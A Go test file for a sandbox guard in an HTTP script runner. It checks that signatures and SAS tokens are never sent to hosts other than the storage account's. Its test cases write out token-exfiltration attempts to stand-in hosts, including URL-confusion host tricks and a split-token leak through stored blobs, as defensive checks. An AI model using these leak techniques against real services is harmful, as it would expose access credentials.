package full_test

import (
	"testing"

	"github.com/rowkey/rowkey/engine/auth"
	"github.com/rowkey/rowkey/engine/language/runner"
	"github.com/rowkey/rowkey/engine/language/sandbox"
	"github.com/rowkey/rowkey/engine/language/sandbox/full"
	"github.com/rowkey/rowkey/engine/language/script"
)

// TestElsewhere: a request to another address than the account's has no signature of it and takes no token
// there.
func TestElsewhere(t *testing.T) {
	here := runner.Options{Host: sandbox.Host, Queue: sandbox.Queue, Blob: sandbox.Blob}
	const leak = "After {{$sas}} nothing is sent to another address: it could have the token in it."
	away := here
	away.Host, away.Queue, away.Blob = "https://a.table.example", "https://a.queue.example", "https://a.blob.example/"
	for _, c := range []struct {
		text   string
		o      runner.Options
		signed bool
		err    string
	}{
		{"GET http://elsewhere.example/T", here, false, ""},
		{"@host = http://elsewhere.example\nGET {{host}}/T", here, false, ""},
		{"GET http://127.0.0.1:10002/other/T", here, true, ""},
		{"GET http://localhost:7/T", here, true, ""},
		{"GET http://localhost:x@192.0.2.2:7/T", here, false, ""},
		{"GET http://localhost:7@192.0.2.2:7/T", here, false, ""},
		{"GET http://127.0.0.1@192.0.2.2/T", here, false, ""},
		{"GET http://127.0.0.1.elsewhere.example/T", here, false, ""},
		{"GET http://127.elsewhere.example/T", here, false, ""},
		{"GET http://localhost.elsewhere.example/T", here, false, ""},
		{"GET http://localhost:x@192.0.2.2/T?{{$sas tn=T}}", here, false, leak},
		{"@t = {{$sas tn=T}}\nPUT {{blob}}/a/b\nx-ms-copy-source: http://elsewhere.example/?{{t}}", here,
			false, leak},
		{"@t = {{$sas tn=T}}\nPUT {{blob}}/a/b\nx-ms-copy-source: {{blob}}/a/c?{{t}}", here, true, ""},
		{"@t = {{$sas tn=T}}\nPUT {{blob}}/a/b\nx-a: {{t}}\nx-ms-copy-source: {{blob}}/a/c\n" +
			"X-Ms-Copy-Source: http://elsewhere.example/", here, false, leak},
		{"GET {{host}}/T", away, true, ""},
		{"GET {{blob}}/T", away, true, ""},
		{"GET https://a.queue.example?comp=list", away, true, ""},
		{"GET https://a.table.example.evil.example/T", away, false, ""},
		{"GET http://a.table.example/T", away, false, ""},
		{"GET http://127.0.0.1:10002/devstoreaccount1/T", away, false, ""},
		{"GET https://elsewhere.example/T?{{$sas tn=T}}", away, false, leak},
		{"@t = {{$sas tn=T}}\nPOST https://elsewhere.example/T\n\n{{t}}", away, false, leak},
		{"POST https://elsewhere.example/T\nx-a: {{$sas tn=T}}", away, false, leak},
	} {
		f := &answerer{}
		c.o.Key = full.Guard(full.Key{Credential: auth.Credential{Account: "a", Key: []byte("key")}}, c.o)
		s := runner.Run(script.Parse("a.http", c.text), 0, f, c.o)[0]
		message := ""
		if s.Err != nil {
			message = s.Err.Message
		}
		if message != c.err || len(f.sent) == 0 != (c.err != "") ||
			len(f.sent) > 0 && f.sent[0].Headers.Has("Authorization") != c.signed {
			t.Errorf("%q: %q, sent %v", c.text, message, f.sent)
		}
	}
}

// TestKeptToken: a token that the account was given to keep can come back in two halves.
func TestKeptToken(t *testing.T) {
	o := runner.Options{Host: "https://a.table.example", Blob: "https://a.blob.example"}
	o.Key = full.Guard(full.Key{Credential: auth.Credential{Account: "a", Key: []byte("key")}}, o)
	steps := runner.Run(script.Parse("a.http", `### ask
GET https://elsewhere.example/before

### keep
PUT {{blob}}/a/b

{{$sas tn=T}}

### half
GET {{blob}}/a/b
x-ms-range: bytes=0-9

### take
GET https://elsewhere.example/?{{half.response.body}}
`), 0, &answerer{}, o)
	for i, s := range steps {
		if refused := s.Err != nil; refused != (i == 3) {
			t.Errorf("request %d: %v", i+1, s.Err)
		}
	}
}
